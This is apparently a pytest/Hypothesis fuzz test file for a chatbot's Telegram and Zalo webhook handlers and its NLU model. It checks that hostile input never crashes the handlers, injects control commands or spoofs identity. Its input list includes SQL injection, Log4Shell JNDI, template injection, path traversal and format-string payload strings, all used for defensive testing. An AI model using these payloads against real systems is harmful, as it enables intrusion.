"""Fuzzing: thousands of random and hostile messages and webhook bodies through the real
channel code (`TelegramInput.handle_request`, `ZaloInput.handle_request` and its background
processing, the local fake Telegram/Zalo APIs behind) and through the NLU of the trained
test model (TEST_MODEL). Nothing may crash, answer 500 or hang, and the security rules hold
for whatever reaches Rasa: no control command, no message over the limit, no metadata but
channel / user id / delivered photos, nothing from a group, no proof of identity but the
sender's own contact in a private chat.

Bounded (`max_examples`, a timeout on every call) so that the file runs in well under a
minute; `FUZZ_SCALE=10` runs ten times as many examples.
"""

from __future__ import annotations

import asyncio
import json
import os
import string
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import event

from bot.channels.common import (
    CONTROL_INTENTS,
    INFORM_TEXT,
    max_message_chars,
    payload_intent,
    prepare_typed_text,
)
from bot.channels.store import ChannelStore
from bot.channels.telegram import TelegramConfig, TelegramInput
from bot.channels.zalo import ZaloConfig, ZaloInput
from tests.channels.conftest import (
    APP_ID,
    APP_SECRET,
    OA_SECRET,
    SECRET,
    Recorder,
    sign_raw,
)

SCALE = int(os.environ.get("FUZZ_SCALE", "1"))  # FUZZ_SCALE=10: ten times the examples
CALL_TIMEOUT_S = 20.0  # "no hang": any single webhook call
PARSE_TIMEOUT_S = 2.0  # one NLU parse (p99 is ~12 ms)
ALLOWED_METADATA = {"channel", "user_id", "photos", "photo_problem"}  # the last: ours
# Intents whose payload changes the conversation itself (the NLU classifier never predicts
# them from words: they have no training examples).
STATE_INTENTS = {"restart", "back", "session_start"}


def fuzz_settings(examples: int):
    return settings(max_examples=examples * SCALE, deadline=None, database=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture,
                                           HealthCheck.too_slow,
                                           HealthCheck.data_too_large])


# -- hostile input -------------------------------------------------------------------------
PIECES = [
    "/restart", "/session_start", "/back", "/out_of_scope", "/nlu_fallback", "/start",
    "/start@ho_tro_bot", "/greet", "/affirm", "/inform", '/inform{"phone_number":"0901000001"}',
    '{"verified_msisdn":"0901000001"}', '/inform{"verified_msisdn":"0901000001"}',
    "/restart@1.0", "@0.9", "//", "/", "EXTERNAL: ", "EXTERNAL:", "external: ", "\u200b",
    "\ufeff", "\x00", "\r\n", "\t", " ", "{", "}", "\\", '"', "'", "</script>", "' OR 1=1 --",
    "%s%n%x", "${jndi:ldap://x/a}", "{{7*7}}", "../../etc/passwd", "😀", "🙏🏻", "ạ", "A\u0301",
    "\u202e", "kiem tra thong tin thue bao", "0901000001", "+84 901 000 001", "123456",
    "https://example.com/anh.jpg", "anh_cccd.png", "hủy dịch vụ", "cho gặp nhân viên",
]
WHITESPACE = [" ", "  ", "\n", "\t", "\u00a0", "\u3000", ""]

CONTROL_PIECES = ["/restart", "/session_start", "/back", "/out_of_scope", "/nlu_fallback",
                  "//restart", "/ restart", "/Restart", "EXTERNAL: ", "EXTERNAL: /restart",
                  "/start", "/inform", "/affirm", "/greet"]
# Texts that start like a command, with what people and attackers put around it.
command_text = st.tuples(st.sampled_from(WHITESPACE), st.sampled_from(CONTROL_PIECES),
                         st.sampled_from(["", "@1.0", '{"phone_number":"0901000001"}',
                                          '{"verified_msisdn":"0901000001"}', " ", "\n",
                                          " ngay", "{}"]),
                         st.text(max_size=10)).map("".join)
piece_text = st.lists(st.one_of(st.sampled_from(PIECES), st.sampled_from(WHITESPACE),
                                st.text(max_size=6)), max_size=8).map("".join)
near_limit = st.tuples(st.integers(max_message_chars() - 3, max_message_chars() + 3),
                       st.sampled_from(["a", "ạ", "😀", " ", "/", "1"])
                       ).map(lambda t: t[1] * t[0])
hostile_text = st.one_of(command_text, st.text(max_size=60), piece_text, near_limit,
                         st.text(alphabet=string.printable, max_size=300),
                         st.text(min_size=900, max_size=1100))


# -- fixtures -----------------------------------------------------------------------------
@pytest.fixture(scope="module")
def db_url() -> Iterator[str]:
    from bot import database as db
    from bot.backend import set_backend

    with tempfile.TemporaryDirectory() as tmp:
        url = f"sqlite:///{Path(tmp) / 'fuzz.db'}"
        db.upgrade(url)
        previous = os.environ.get("BOT_DB_URL")
        os.environ["BOT_DB_URL"] = url  # get_backend(): the identity ledger
        try:
            yield url
        finally:
            set_backend(None, url)
            if previous is None:
                os.environ.pop("BOT_DB_URL", None)
            else:
                os.environ["BOT_DB_URL"] = previous


def fast_store(db_url: str) -> ChannelStore:
    """The channel store on the fuzz database, without fsync (a test database)."""
    from bot.database import make_engine

    engine = make_engine(db_url)

    @event.listens_for(engine, "connect")
    def _no_sync(dbapi_connection: Any, _: Any) -> None:
        dbapi_connection.execute("PRAGMA synchronous=OFF")

    return ChannelStore(engine)


@pytest.fixture
def tg(telegram_api, db_url) -> TelegramInput:
    return TelegramInput(TelegramConfig(token=telegram_api.token, secret_token=SECRET,
                                        base_url=telegram_api.base_url), fast_store(db_url))


@pytest.fixture
def zalo(zalo_api, db_url) -> ZaloInput:
    config = ZaloConfig(app_id=APP_ID, oa_secret_key=OA_SECRET, app_secret_key=APP_SECRET,
                        access_token=zalo_api.access_token,
                        refresh_token=zalo_api.refresh_token, api_base_url=zalo_api.url,
                        oauth_base_url=zalo_api.url, retry_delays_s=())
    return ZaloInput(config, fast_store(db_url))


def ledger_rows(db_url: str) -> list[tuple[str, str]]:
    from sqlalchemy import text as sql

    from bot.database import make_engine

    engine = make_engine(db_url)
    try:
        with engine.connect() as conn:
            return [tuple(r) for r in conn.execute(
                sql("SELECT conversation_id, msisdn FROM identity_verifications"))]
    finally:
        engine.dispose()


def assert_safe_for_rasa(message: Any, typed_payloads_allowed: bool) -> None:
    """What reached Rasa obeys the rules whatever came in."""
    text = message.text
    assert len(text) <= max_message_chars()
    assert not text.lstrip().startswith("EXTERNAL: ")
    intent = payload_intent(text)
    assert intent is None or intent.casefold() not in CONTROL_INTENTS, text
    if not typed_payloads_allowed:  # Telegram text: only the channel's own payloads
        assert intent in (None, "greet", "inform"), text
    assert set(message.metadata) <= ALLOWED_METADATA, message.metadata
    assert message.metadata["channel"] in ("telegram", "zalo")


# -- Telegram ------------------------------------------------------------------------------
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda children: st.lists(children, max_size=4)
    | st.dictionaries(st.sampled_from(["update_id", "message", "chat", "id", "type", "text",
                                       "from", "contact", "photo", "callback_query", "data",
                                       "channel_post", "date", "message_id", "user_id",
                                       "phone_number", "document", "caption"])
                      | st.text(max_size=8), children, max_size=6),
    max_leaves=25)
raw_bodies = st.one_of(
    st.binary(max_size=400),
    json_values.map(lambda v: json.dumps(v).encode()),
    st.builds(lambda uid, msg: json.dumps({"update_id": uid, "message": msg}).encode(),
              st.integers(), json_values),
    st.builds(lambda depth: b"[" * depth + b"]" * depth, st.integers(1, 50_000)),
)


@fuzz_settings(300)
@given(body=raw_bodies)
async def test_fuzz_telegram_raw_bodies(tg, body):
    rec = Recorder()
    status, payload = await asyncio.wait_for(tg.handle_request(SECRET, body, rec),
                                             CALL_TIMEOUT_S)
    assert status in (200, 400, 413), (status, payload)
    assert isinstance(payload, dict)
    for message in rec.messages:  # a random body that happens to be a valid update
        assert_safe_for_rasa(message, typed_payloads_allowed=False)


_update_ids = iter(range(10**6, 10**12))

chat_types = st.sampled_from(["private", "private", "private", "group", "supergroup",
                              "channel"])
user_ids = st.integers(1, 10**10)


@st.composite
def telegram_updates(draw) -> tuple[dict[str, Any], dict[str, Any]]:
    """(update, facts) for a structurally valid update with hostile content."""
    chat_type = draw(chat_types)
    sender = draw(user_ids)
    chat_id = sender if chat_type == "private" else -draw(st.integers(1, 10**13))
    chat = {"id": chat_id, "type": chat_type}
    if chat_type != "private":
        chat["title"] = draw(st.text(max_size=10))
    kind = draw(st.sampled_from(["text", "text", "text", "contact", "photo", "click",
                                 "sticker", "channel_post"]))
    facts = {"kind": kind, "chat_id": chat_id, "private": chat_type == "private",
             "sender": sender}
    base = {"message_id": draw(st.integers(1, 10**6)), "date": int(time.time()),
            "chat": chat, "from": {"id": sender, "is_bot": False, "first_name": "X"}}
    update_id = next(_update_ids)
    if kind == "click":
        return {"update_id": update_id, "callback_query": {
            "id": f"cq{update_id}", "from": base["from"], "chat_instance": "ci",
            "data": draw(hostile_text.map(lambda t: t[:64])),
            "message": {"message_id": 7, "date": int(time.time()), "chat": chat,
                        "text": "menu"}}}, facts
    if kind == "channel_post":
        chat = {"id": -draw(st.integers(1, 10**13)), "type": "channel", "title": "kênh"}
        facts.update(private=False, chat_id=chat["id"])
        return {"update_id": update_id, "channel_post": {
            "message_id": 1, "date": int(time.time()), "chat": chat,
            "text": draw(hostile_text)}}, facts
    if kind == "contact":
        owner = draw(st.sampled_from([sender, None, draw(user_ids)]))
        phone = draw(st.one_of(st.sampled_from(["0901000001", "+84901000002", "84 90 100 0003",
                                                "0123", "", "+1 555 0100"]), hostile_text))
        contact = {"phone_number": phone, "first_name": "Y"}
        if owner is not None:
            contact["user_id"] = owner
        facts.update(own=owner == sender)
        base["contact"] = contact
    elif kind == "photo":
        base["photo"] = [{"file_id": f"f{update_id}", "file_unique_id": "u", "width": 9,
                          "height": 9}]
        caption = draw(st.none() | hostile_text)
        if caption is not None:
            base["caption"] = caption
    elif kind == "sticker":
        base["sticker"] = {"file_id": "st", "file_unique_id": "st", "width": 1, "height": 1,
                           "is_animated": False, "is_video": False, "type": "regular"}
    else:
        base["text"] = draw(hostile_text)
    return {"update_id": update_id, "message": base}, facts


@fuzz_settings(250)
@given(item=telegram_updates())
async def test_fuzz_telegram_hostile_updates(tg, db_url, item):
    update, facts = item
    rec = Recorder()
    before = set(ledger_rows(db_url)) if facts["kind"] == "contact" else None
    status, payload = await asyncio.wait_for(
        tg.handle_request(SECRET, json.dumps(update).encode(), rec), CALL_TIMEOUT_S)
    assert status == 200, payload
    if not facts["private"]:
        assert rec.messages == [], "nothing from a group or channel reaches Rasa"
        return
    for message in rec.messages:
        assert message.sender_id == f"tg-{facts['chat_id']}"
        # a click carries a button's payload (not a control one); typed text carries none
        assert_safe_for_rasa(message, typed_payloads_allowed=facts["kind"] == "click")
        assert ("photos" in message.metadata) == (facts["kind"] == "photo")
    if before is not None:
        added = set(ledger_rows(db_url)) - before
        if not facts.get("own"):
            assert added == set(), "someone else's contact proved nothing"
        else:
            assert added <= {(f"tg-{facts['chat_id']}", m.text[-12:-2])
                             for m in rec.messages}


# -- Zalo ----------------------------------------------------------------------------------
@fuzz_settings(300)
@given(body=st.one_of(raw_bodies, st.binary(max_size=2000)),
       header=st.one_of(st.none(), st.text(max_size=80),
                        st.text(alphabet="0123456789abcdef", min_size=64, max_size=64)
                        .map(lambda h: f"mac={h}")))
async def test_fuzz_zalo_unsigned_bodies_are_refused_without_parsing(zalo, body, header):
    rec = Recorder()
    status, payload = await asyncio.wait_for(zalo.handle_request(header, body, rec),
                                             CALL_TIMEOUT_S)
    assert status in (403, 413), payload  # nobody guesses the MAC
    assert not zalo._tasks and rec.messages == []


zalo_event_names = st.sampled_from([
    "user_send_text", "user_send_text", "user_send_text", "user_send_image", "follow",
    "unfollow", "user_send_sticker", "user_send_file", "user_send_group_text",
    "oa_send_text", "user_seen_message", "user_send_", "", "x" * 300])
zalo_ids = st.one_of(st.text(min_size=1, max_size=20), st.integers(), st.none(),
                     st.text(min_size=60, max_size=130), st.lists(st.integers(), max_size=2))


@st.composite
def zalo_bodies(draw) -> tuple[bytes, str, dict[str, Any]]:
    """(body, its signature, the event): mostly well-formed user messages with hostile
    text, the rest with random names, ids and fields."""
    well_formed = draw(st.sampled_from([True, True, False]))
    name = draw(st.sampled_from(["user_send_text", "user_send_text", "user_send_image"])
                if well_formed else zalo_event_names)
    message: Any = {"msg_id": f"fz{next(_update_ids)}" if well_formed else draw(zalo_ids),
                    "text": draw(hostile_text if well_formed
                                 else st.one_of(hostile_text, json_values))}
    if name == "user_send_image":
        message["attachments"] = draw(st.one_of(
            json_values,
            st.lists(st.fixed_dictionaries({"type": st.just("image"), "payload": st.one_of(
                st.fixed_dictionaries({"url": st.one_of(st.text(max_size=40),
                                                       st.integers())}), json_values)}),
                     max_size=3)))
    if not well_formed and draw(st.booleans()):
        message = draw(json_values)
    skew = 0 if well_formed else draw(st.integers(-600_000, 600_000))
    timestamp = str(int(time.time() * 1000) + skew)
    sender = ({"id": draw(st.text(string.ascii_letters + string.digits, min_size=1,
                                  max_size=20))}
              if well_formed else draw(st.one_of(st.fixed_dictionaries({"id": zalo_ids}),
                                                 json_values)))
    event = {"app_id": APP_ID, "event_name": name, "sender": sender,
             "recipient": {"id": "oa"}, "message": message, "timestamp": timestamp}
    if not well_formed and draw(st.booleans()):
        event[draw(st.text(max_size=6))] = draw(json_values)
    body = json.dumps(event).encode()
    return body, sign_raw(body, timestamp), event


@fuzz_settings(250)
@given(item=zalo_bodies())
async def test_fuzz_zalo_signed_hostile_events(zalo, item):
    body, header, event = item
    rec = Recorder()
    status, payload = await asyncio.wait_for(zalo.handle_request(header, body, rec),
                                             CALL_TIMEOUT_S)
    assert status in (200, 400, 403), payload  # 403: outside the 5-minute window
    await asyncio.wait_for(zalo.drain(), CALL_TIMEOUT_S)
    for message in rec.messages:
        assert status == 200
        assert_safe_for_rasa(message, typed_payloads_allowed=True)
        assert message.sender_id.startswith("zalo-")
        assert ("photos" in message.metadata) == (event["event_name"] == "user_send_image")


# -- the NLU of the trained test model -------------------------------------------------------
@pytest.fixture(scope="module")
def nlu() -> Iterator[Any]:
    """parse(text) -> Rasa's parse data, with the NLU part of TEST_MODEL's graph only (the
    dialogue policies are not loaded: seconds instead of a minute)."""
    model = os.environ.get("TEST_MODEL")
    if not model:
        pytest.skip("TEST_MODEL is not set: the NLU fuzz test needs the trained test model "
                    "(`make test-py` builds and exports it)")
    if not Path(model).is_file():
        pytest.skip(f"TEST_MODEL={model} does not exist (run `make .cache/models-test/.trained`)")
    from rasa.core.channels.channel import UserMessage
    from rasa.engine.constants import PLACEHOLDER_MESSAGE, PLACEHOLDER_TRACKER
    from rasa.engine.graph import ExecutionContext
    from rasa.engine.runner.dask import DaskGraphRunner
    from rasa.engine.storage.local_model_storage import LocalModelStorage
    from rasa.shared.core.trackers import DialogueStateTracker

    with tempfile.TemporaryDirectory() as tmp:
        storage, metadata = LocalModelStorage.from_model_archive(Path(tmp), Path(model))
        schema = metadata.predict_schema.minimal_graph_schema(targets=[metadata.nlu_target])
        runner = DaskGraphRunner.create(
            graph_schema=schema, model_storage=storage,
            execution_context=ExecutionContext(graph_schema=schema,
                                               model_id=metadata.model_id))
        tracker = DialogueStateTracker.from_events("fuzz", [])

        def parse(text: str) -> dict[str, Any]:
            results = runner.run(inputs={PLACEHOLDER_MESSAGE: [UserMessage(text)],
                                         PLACEHOLDER_TRACKER: tracker},
                                 targets=[metadata.nlu_target])
            return results[metadata.nlu_target][0].as_dict(only_output_properties=True)

        parse.intents = set(metadata.domain.intents)  # type: ignore[attr-defined]
        yield parse


def check_parse(nlu: Any, text: str) -> dict[str, Any]:
    started = time.monotonic()
    result = nlu(text)
    assert time.monotonic() - started < PARSE_TIMEOUT_S, f"slow parse of {text[:40]!r}"
    intent = result.get("intent") or {}
    assert intent.get("name") in nlu.intents, intent
    assert 0.0 <= float(intent.get("confidence", 0.0)) <= 1.0 + 1e-9
    for entity in result.get("entities") or []:
        assert 0 <= entity["start"] <= entity["end"] <= len(text), entity
    return result


# Found by this file: a combining mark that follows no letter (a tone mark typed alone)
# made the entity extractor raise IndexError (bot/nlu/entities.py _match_windows), i.e. the
# message failed in Rasa and the channel answered 500 (Telegram re-delivers it).
LONE_COMBINING_MARKS = ["a \u0300", "\u0301", "d5 \u0301", "/\u0300"]


@pytest.mark.parametrize("text", LONE_COMBINING_MARKS)
def test_nlu_survives_a_lone_combining_mark(nlu, text):
    check_parse(nlu, text)


@fuzz_settings(200)
@given(text=hostile_text)
def test_fuzz_nlu_never_crashes_on_raw_text(nlu, text):
    check_parse(nlu, text)


@fuzz_settings(300)
@given(text=hostile_text, zalo_rules=st.booleans())
def test_fuzz_nlu_never_reads_a_control_command_from_what_the_channels_pass(nlu, text,
                                                                           zalo_rules):
    """The channels' rule (`prepare_typed_text`, used by both) + the real NLU: a customer's
    text never becomes restart / back / session_start, whatever they type."""
    prepared, notice = prepare_typed_text(text, allow_payloads=zalo_rules)
    if prepared is None:
        assert notice
        return
    result = check_parse(nlu, prepared)
    assert result["intent"]["name"] not in STATE_INTENTS, (text, result["intent"])


def test_nlu_reads_the_commands_the_channels_neutralise(nlu):
    """The fuzz test above can fail: unneutralised, Rasa reads these as control intents."""
    for command in ("/restart", "/session_start", "/back", " /restart@1.0{}"):
        assert nlu(command)["intent"]["name"] in STATE_INTENTS
        assert nlu(prepare_typed_text(command)[0])["intent"]["name"] not in STATE_INTENTS
    assert nlu(INFORM_TEXT)["intent"]["name"] == "inform"
